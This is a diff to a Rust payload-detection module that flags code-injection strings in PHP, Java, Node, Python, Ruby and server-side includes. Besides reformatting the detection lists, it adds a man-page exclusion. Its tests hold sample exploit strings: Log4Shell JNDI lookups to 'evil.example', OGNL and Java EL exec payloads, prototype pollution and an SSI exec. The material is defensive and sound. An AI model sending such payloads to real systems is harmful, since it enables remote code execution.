@@ -16,35 +16,100 @@ use crate::detect::finding::{Finding, Kind, Severity};
 /// Calls that run code or commands, read or write files or decode hidden payloads; their
 /// names are not English words, so a blank or comment before `(` is allowed.
 const PHP_CALLS: &[&[u8]] = &[
-    b"shell_exec", b"passthru", b"proc_open", b"pcntl_exec", b"assert_options",
-    b"create_function", b"call_user_func", b"call_user_func_array", b"preg_replace",
-    b"base64_decode", b"gzinflate", b"gzuncompress", b"gzdecode", b"str_rot13",
-    b"bzdecompress", b"zlib_decode", b"include_once", b"require_once", b"file_get_contents",
-    b"file_put_contents", b"fsockopen", b"pfsockopen", b"phpinfo", b"unserialize",
-    b"curl_init", b"curl_exec", b"move_uploaded_file", b"highlight_file", b"show_source",
-    b"php_uname", b"getenv", b"putenv", b"ini_set", b"dl", b"array_map", b"usort",
-    b"register_shutdown_function", b"fwrite", b"fopen", b"readfile", b"symlink", b"chmod",
-    b"posix_getpwuid", b"escapeshellcmd", b"escapeshellarg", b"popen", b"mb_ereg_replace",
+    b"shell_exec",
+    b"passthru",
+    b"proc_open",
+    b"pcntl_exec",
+    b"assert_options",
+    b"create_function",
+    b"call_user_func",
+    b"call_user_func_array",
+    b"preg_replace",
+    b"base64_decode",
+    b"gzinflate",
+    b"gzuncompress",
+    b"gzdecode",
+    b"str_rot13",
+    b"bzdecompress",
+    b"zlib_decode",
+    b"include_once",
+    b"require_once",
+    b"file_get_contents",
+    b"file_put_contents",
+    b"fsockopen",
+    b"pfsockopen",
+    b"phpinfo",
+    b"unserialize",
+    b"curl_init",
+    b"curl_exec",
+    b"move_uploaded_file",
+    b"highlight_file",
+    b"show_source",
+    b"php_uname",
+    b"getenv",
+    b"putenv",
+    b"ini_set",
+    b"dl",
+    b"array_map",
+    b"usort",
+    b"register_shutdown_function",
+    b"fwrite",
+    b"fopen",
+    b"readfile",
+    b"symlink",
+    b"chmod",
+    b"posix_getpwuid",
+    b"escapeshellcmd",
+    b"escapeshellarg",
+    b"popen",
+    b"mb_ereg_replace",
 ];
 
 /// Dangerous calls whose names are also words ("system (beta)"): `(` must follow directly.
-const PHP_WORD_CALLS: &[&[u8]] = &[b"system", b"exec", b"eval", b"assert", b"include", b"require"];
+const PHP_WORD_CALLS: &[&[u8]] = &[
+    b"system", b"exec", b"eval", b"assert", b"include", b"require",
+];
 
 /// Java packages whose classes payloads reach for (exceptions and errors excluded: stack
 /// traces name them legitimately).
 const JAVA_PACKAGES: &[&[u8]] = &[
-    b"java.lang.", b"java.io.", b"java.net.", b"java.nio.", b"java.beans.", b"java.rmi.",
-    b"javax.script.", b"javax.naming.", b"javax.management.", b"sun.misc.", b"com.sun.",
-    b"org.apache.commons.collections", b"org.codehaus.groovy.", b"com.opensymphony.xwork2",
-    b"org.omg.", b"bsh.", b"org.apache.xalan", b"org.mozilla.javascript",
+    b"java.lang.",
+    b"java.io.",
+    b"java.net.",
+    b"java.nio.",
+    b"java.beans.",
+    b"java.rmi.",
+    b"javax.script.",
+    b"javax.naming.",
+    b"javax.management.",
+    b"sun.misc.",
+    b"com.sun.",
+    b"org.apache.commons.collections",
+    b"org.codehaus.groovy.",
+    b"com.opensymphony.xwork2",
+    b"org.omg.",
+    b"bsh.",
+    b"org.apache.xalan",
+    b"org.mozilla.javascript",
 ];
 
 /// Commons-Collections / Groovy gadget class names.
 const GADGETS: &[&[u8]] = &[
-    b"invokertransformer", b"chainedtransformer", b"constanttransformer",
-    b"instantiatetransformer", b"instantiatefactory", b"clonetransformer", b"forclosure",
-    b"whileclosure", b"prototypeclonefactory", b"prototypeserializationfactory",
-    b"templatesimpl", b"methodclosure", b"convertedclosure", b"lazymap", b"transformedmap",
+    b"invokertransformer",
+    b"chainedtransformer",
+    b"constanttransformer",
+    b"instantiatetransformer",
+    b"instantiatefactory",
+    b"clonetransformer",
+    b"forclosure",
+    b"whileclosure",
+    b"prototypeclonefactory",
+    b"prototypeserializationfactory",
+    b"templatesimpl",
+    b"methodclosure",
+    b"convertedclosure",
+    b"lazymap",
+    b"transformedmap",
 ];
 
 pub fn check(c: &Candidate<'_>, out: &mut Vec<Finding>) {
@@ -81,8 +146,16 @@ fn java(b: &[u8]) -> Option<Hit> {
     if let Some(p) = first_of(
         b,
         &[
-            b"#_memberaccess", b"#context[", b"%{(#", b"@ognl.", b"ognlcontext", b"(#dm=",
-            b"default_member_access", b"#application[", b"#request[", b"@java.lang.",
+            b"#_memberaccess",
+            b"#context[",
+            b"%{(#",
+            b"@ognl.",
+            b"ognlcontext",
+            b"(#dm=",
+            b"default_member_access",
+            b"#application[",
+            b"#request[",
+            b"@java.lang.",
             b"xwork.methodaccessor",
         ],
     ) {
@@ -91,13 +164,26 @@ fn java(b: &[u8]) -> Option<Hit> {
     if let Some(p) = first_of(
         b,
         &[
-            b"t(java.", b"t (java.", b".getruntime()", b"getclass().forname(", b"class.forname(",
-            b"processbuilder", b"scriptenginemanager", b".getclassloader()",
+            b"t(java.",
+            b"t (java.",
+            b".getruntime()",
+            b"getclass().forname(",
+            b"class.forname(",
+            b"processbuilder",
+            b"scriptenginemanager",
+            b".getclassloader()",
         ],
     ) {
         return Some(("code.java_el", crit, p));
     }
-    if let Some(p) = first_of(b, &[b"class.module.classloader", b"class.classloader", b".classloader."]) {
+    if let Some(p) = first_of(
+        b,
+        &[
+            b"class.module.classloader",
+            b"class.classloader",
+            b".classloader.",
+        ],
+    ) {
         return Some(("code.spring_classloader", crit, p));
     }
     if let Some(p) = deserialization(b) {
@@ -125,7 +211,9 @@ fn jndi(b: &[u8]) -> Option<usize> {
         let r = resolved.to_ascii_lowercase();
         if r.starts_with(b"jndi:") {
             let proto = &r[5..];
-            for scheme in ["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"] {
+            for scheme in [
+                "ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http",
+            ] {
                 if proto.starts_with(scheme.as_bytes()) {
                     return Some(p);
                 }
@@ -215,18 +303,39 @@ fn php(b: &[u8]) -> Option<Hit> {
     if let Some(p) = first_of(
         b,
         &[
-            b"php://", b"phar://", b"zip://", b"expect://", b"glob://", b"data://",
-            b"compress.zlib://", b"compress.bzip2://", b"ssh2.shell://", b"ssh2.exec://",
-            b"ssh2.tunnel://", b"ssh2.sftp://", b"ssh2.scp://", b"rar://", b"ogg://",
-            b"data:text/plain", b"data:text/php", b"data:application/x-httpd-php",
+            b"php://",
+            b"phar://",
+            b"zip://",
+            b"expect://",
+            b"glob://",
+            b"data://",
+            b"compress.zlib://",
+            b"compress.bzip2://",
+            b"ssh2.shell://",
+            b"ssh2.exec://",
+            b"ssh2.tunnel://",
+            b"ssh2.sftp://",
+            b"ssh2.scp://",
+            b"rar://",
+            b"ogg://",
+            b"data:text/plain",
+            b"data:text/php",
+            b"data:application/x-httpd-php",
         ],
     ) {
         return Some(("code.php_wrapper", crit, p));
     }
     if b.contains(&b'$') {
         for g in [
-            &b"$_get"[..], b"$_post", b"$_request", b"$_server", b"$_cookie", b"$_files",
-            b"$_env", b"$_session", b"$globals",
+            &b"$_get"[..],
+            b"$_post",
+            b"$_request",
+            b"$_server",
+            b"$_cookie",
+            b"$_files",
+            b"$_env",
+            b"$_session",
+            b"$globals",
         ] {
             if let Some(p) = find_ci(b, g) {
                 if b.get(p + g.len()).is_none_or(|x| !is_ident(*x)) {
@@ -261,11 +370,25 @@ fn php_tag(b: &[u8]) -> Option<usize> {
         // `<? echo …`, `<? $x…`, `<? f(…`: short tags with PHP after them (not `<?xml`).
         let t = rest.trim_ascii_start();
         let ident = t.iter().take_while(|x| is_ident(**x)).count();
-        let keyword = [&b"echo"[..], b"print", b"system", b"eval", b"include", b"require", b"exec", b"passthru", b"phpinfo", b"if", b"foreach"]
-            .iter()
-            .any(|k| t[..ident].eq_ignore_ascii_case(k));
+        let keyword = [
+            &b"echo"[..],
+            b"print",
+            b"system",
+            b"eval",
+            b"include",
+            b"require",
+            b"exec",
+            b"passthru",
+            b"phpinfo",
+            b"if",
+            b"foreach",
+        ]
+        .iter()
+        .any(|k| t[..ident].eq_ignore_ascii_case(k));
         if rest.first().is_some_and(u8::is_ascii_whitespace)
-            && (t.first() == Some(&b'$') || keyword || (ident > 0 && skip_space_comments(&t[ident..]).first() == Some(&b'(')))
+            && (t.first() == Some(&b'$')
+                || keyword
+                || (ident > 0 && skip_space_comments(&t[ident..]).first() == Some(&b'(')))
         {
             return Some(p);
         }
@@ -284,8 +407,14 @@ fn php_call(b: &[u8]) -> Option<usize> {
                 continue;
             }
             let after = &b[p + name.len()..];
-            let rest = if loose { skip_space_comments(after) } else { after };
-            if rest.first() == Some(&b'(') {
+            let rest = if loose {
+                skip_space_comments(after)
+            } else {
+                after
+            };
+            // `putenv(3)`: a manual page reference.
+            let man_ref = rest.len() >= 3 && rest[1].is_ascii_digit() && rest[2] == b')';
+            if rest.first() == Some(&b'(') && !man_ref {
                 return Some(p);
             }
         }
@@ -297,9 +426,15 @@ fn skip_space_comments(mut b: &[u8]) -> &[u8] {
     for _ in 0..8 {
         let t = b.trim_ascii_start();
         if let Some(r) = t.strip_prefix(b"/*") {
-            b = r.windows(2).position(|w| w == b"*/").map_or(&[][..], |e| &r[e + 2..]);
+            b = r
+                .windows(2)
+                .position(|w| w == b"*/")
+                .map_or(&[][..], |e| &r[e + 2..]);
         } else if t.starts_with(b"//") || t.starts_with(b"#") {
-            b = t.iter().position(|&x| x == b'\n').map_or(&[][..], |e| &t[e..]);
+            b = t
+                .iter()
+                .position(|&x| x == b'\n')
+                .map_or(&[][..], |e| &t[e..]);
         } else {
             return t;
         }
@@ -383,8 +518,13 @@ fn other(b: &[u8]) -> Option<Hit> {
     if let Some(p) = first_of(
         b,
         &[
-            b"child_process", b"process.mainmodule", b"process.binding(", b"constructor._load(",
-            b"constructor.constructor(", b"require('child", b"require(\"child",
+            b"child_process",
+            b"process.mainmodule",
+            b"process.binding(",
+            b"constructor._load(",
+            b"constructor.constructor(",
+            b"require('child",
+            b"require(\"child",
         ],
     ) {
         return Some(("code.node", crit, p));
@@ -392,7 +532,9 @@ fn other(b: &[u8]) -> Option<Hit> {
     if let Some(p) = first_of(
         b,
         &[
-            b"__proto__", b"constructor.prototype", b"constructor[prototype]",
+            b"__proto__",
+            b"constructor.prototype",
+            b"constructor[prototype]",
             b"[constructor][prototype]",
         ],
     ) {
@@ -404,13 +546,25 @@ fn other(b: &[u8]) -> Option<Hit> {
     if let Some(p) = first_of(
         b,
         &[
-            b"__import__(", b"__builtins__", b"__globals__", b"__subclasses__(", b"os.popen(",
+            b"__import__(",
+            b"__builtins__",
+            b"__globals__",
+            b"__subclasses__(",
+            b"os.popen(",
             b"os.system(",
         ],
     ) {
         return Some(("code.python", crit, p));
     }
-    if let Some(p) = first_of(b, &[b"process.spawn(", b"kernel.exec", b"io.popen(", b"kernel.system"]) {
+    if let Some(p) = first_of(
+        b,
+        &[
+            b"process.spawn(",
+            b"kernel.exec",
+            b"io.popen(",
+            b"kernel.system",
+        ],
+    ) {
         return Some(("code.ruby", crit, p));
     }
     if let Some(p) = first_of(b, &[b"<!--#exec", b"<!--#include"]) {
@@ -468,9 +622,15 @@ mod tests {
         ] {
             assert_eq!(rule(v), Some("code.php"), "{v}");
         }
-        assert_eq!(rule("php://filter/convert.base64-encode/resource=index"), Some("code.php_wrapper"));
+        assert_eq!(
+            rule("php://filter/convert.base64-encode/resource=index"),
+            Some("code.php_wrapper")
+        );
         assert_eq!(rule("phar:///tmp/x.phar/a"), Some("code.php_wrapper"));
-        assert_eq!(rule("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"), Some("code.php_object"));
+        assert_eq!(
+            rule("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"),
+            Some("code.php_object")
+        );
     }
 
     #[test]
@@ -479,14 +639,29 @@ mod tests {
             ("${jndi:ldap://evil.example/a}", "code.jndi"),
             ("${${lower:j}ndi:${lower:l}dap://x/a}", "code.jndi"),
             ("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "code.jndi"),
-            ("${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}", "code.jndi"),
-            ("%{(#_memberAccess['allowStaticMethodAccess']=true)}", "code.ognl"),
-            ("${T(java.lang.Runtime).getRuntime().exec('id')}", "code.java_el"),
-            ("new java.lang.ProcessBuilder({'id'}).start()", "code.java_el"),
+            (
+                "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x}",
+                "code.jndi",
+            ),
+            (
+                "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
+                "code.ognl",
+            ),
+            (
+                "${T(java.lang.Runtime).getRuntime().exec('id')}",
+                "code.java_el",
+            ),
+            (
+                "new java.lang.ProcessBuilder({'id'}).start()",
+                "code.java_el",
+            ),
             ("java.lang.Runtime", "code.java_class"),
             ("rO0ABXNyABFqYXZh", "code.java_deserialization"),
             ("ACED00057372", "code.java_deserialization"),
-            ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "code.spring_classloader"),
+            (
+                "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+                "code.spring_classloader",
+            ),
         ] {
             assert_eq!(rule(v), Some(r), "{v}");
         }
@@ -494,8 +669,14 @@ mod tests {
 
     #[test]
     fn other_languages() {
-        assert_eq!(rule("require('child_process').exec('id')"), Some("code.node"));
-        assert_eq!(rule("{\"__proto__\":{\"admin\":true}}"), Some("code.prototype_pollution"));
+        assert_eq!(
+            rule("require('child_process').exec('id')"),
+            Some("code.node")
+        );
+        assert_eq!(
+            rule("{\"__proto__\":{\"admin\":true}}"),
+            Some("code.prototype_pollution")
+        );
         assert_eq!(rule("@{[ system 'id' ]}"), Some("code.perl"));
         assert_eq!(rule("__import__('os').popen"), Some("code.python"));
         assert_eq!(rule("<!--#exec cmd=\"id\"-->"), Some("code.ssi"));
@@ -522,6 +703,7 @@ mod tests {
             "O: 8 items",
             "<? should not trigger",
             "$a[]()",
+            "such as putenv(3) or environ(7)",
         ] {
             assert_eq!(rule(v), None, "{v}");
         }
